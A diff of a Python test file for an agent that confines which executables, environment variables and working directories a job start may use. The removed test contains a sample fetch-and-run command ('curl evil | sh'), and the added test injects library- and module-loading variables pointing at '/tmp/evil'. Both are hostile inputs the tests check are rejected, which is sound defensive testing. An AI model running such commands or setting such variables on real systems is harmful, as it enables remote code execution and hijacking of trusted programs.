@@ -245,20 +245,40 @@ def test_a_forged_name_a_bad_rank_contract_or_no_slots_stays_a_plain_rejection()
                                 for a in d.actions)
 
 
-def test_an_allow_list_confines_what_a_start_may_run() -> None:
-    cmd = start_cmd("n1", "run", 1, ("r0",))  # argv[0] is this interpreter
-    allowed = replace(CFG, allowed_executables=(cmd.argv[0],))
+def test_an_allow_list_refuses_an_env_that_makes_the_allowed_program_load_other_code(
+) -> None:
+    # Which file argv[0] is, the shell judges at launch (tests/agent/test_confine.py);
+    # the command alone shows a spec reaching inside an allowed program.
+    cmd = start_cmd("n1", "run", 1, ("r0",))
+    allowed = replace(CFG, allowed_executables=("/usr/bin/python3.11",))
     assert kinds(decide(allowed, AgentState(), cmd, NOW)) == ["Launch"]
-    other = replace(cmd, argv=("/bin/sh", "-c", "curl evil | sh"))
-    d = decide(allowed, AgentState(), other, NOW)
-    assert kinds(d) == ["Reject"]
-    assert "not_allowed: the command's executable '/bin/sh' is not one the agent may run" \
-        in reasons(d)[0]
+    for name in ("LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "BASH_ENV"):
+        hooked = replace(cmd, env={**cmd.env, name: "/tmp/evil"})
+        d = decide(allowed, AgentState(), hooked, NOW)
+        assert kinds(d) == ["Reject"], name
+        (refused,) = d.actions
+        assert isinstance(refused, Reject)
+        assert refused.launch_error == (
+            f"the agent on n1 refused the start: not_allowed: env sets {name}, which would "
+            "make the allowed program load code of the spec's choosing; drop it from the "
+            "spec's env, or start the agent on n1 without --allow")
+        # No list: the spec's env is the job's own business, as before.
+        assert kinds(decide(CFG, AgentState(), hooked, NOW)) == ["Launch"]
+
+
+def test_a_workdir_lies_in_the_agent_s_roots_or_allowed_workdirs() -> None:
+    cmd = start_cmd("n1", "run", 1, ("r0",))
+    confined = replace(ROOTED, allowed_workdirs=("/home/alice/code",))
+    for inside in ("/work/n1/job", "/data/ckpt/x", "/home/alice/code", "/home/alice/code/a"):
+        ok = decide(confined, AgentState(), replace(cmd, workdir=inside), NOW)
+        assert kinds(ok) == ["Launch"], inside
+    d = decide(confined, AgentState(), replace(cmd, workdir="/home/bob/code"), NOW)
     (refused,) = d.actions
-    assert isinstance(refused, Reject)
-    assert refused.launch_error.endswith("make command[0] one of them, or start the agent on n1"
-                                         " with --allow /bin/sh")
-    empty = replace(cmd, argv=())
-    assert kinds(decide(allowed, AgentState(), empty, NOW)) == ["Reject"]
-    # No list: any executable, as before.
-    assert kinds(decide(CFG, AgentState(), other, NOW)) == ["Launch"]
+    assert isinstance(refused, Reject) and refused.exit_code == 125
+    assert refused.launch_error == (
+        "the agent on n1 refused the start: path_outside_roots: code.workdir "
+        "'/home/bob/code' is outside the allowed roots (/work/n1, /data/ckpt, "
+        "s3://bucket/ckpt, /home/alice/code); set code.workdir under one of them, or start "
+        "the agent on n1 with --allow-workdir /home/bob/code")
+    # No workdir: the worker runs in the agent's own work dir, always allowed.
+    assert kinds(decide(confined, AgentState(), cmd, NOW)) == ["Launch"]
